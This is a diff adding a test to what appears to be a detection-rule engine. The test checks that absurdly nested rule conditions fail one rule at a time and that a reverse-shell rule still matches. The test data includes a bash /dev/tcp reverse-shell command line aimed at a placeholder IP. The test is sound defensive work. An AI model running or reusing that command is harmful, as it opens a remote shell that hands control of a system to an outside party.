@@ -439,3 +439,21 @@ def test_dedup_state_is_bounded_and_an_early_closed_window_still_reports_its_cou
     assert dedup.admit("b", "b1") and dedup.admit("c", "c1")  # "a" closed early to make room
     assert dedup.closed() == [("a2", 1)]
     assert dedup.admit("a", "a3")  # a new window: raised again
+
+
+def test_absurdly_nested_conditions_are_one_rules_error_or_load_never_the_whole_set(start, tmp_path) -> None:
+    parens = "(" * 1000 + "sel" + ")" * 1000
+    nots = "not " * 1000 + "sel"
+    content = write_rules(
+        tmp_path / "c",
+        **{
+            "parens.yml": rule(f"sel:\n  Image: /x\ncondition: {parens}"),
+            "nots.yml": rule(f"sel:\n  Image: /x\ncondition: {nots}"),
+            "rev.yml": REVSHELL_RULE,
+        },
+    )
+    engine, ctx = start(content)
+    assert [os.path.basename(i.file) for i in engine.rules.errors] == ["nots.yml"]
+    engine.on_event(exec_event("/x", "bash -i >& /dev/tcp/1.2.3.4/1 0>&1"))
+    assert {f.fields["rule"] for f in ctx.findings} >= {REVSHELL}
+    assert len(ctx.findings) == 2  # the parenthesised rule loaded and matched /x too
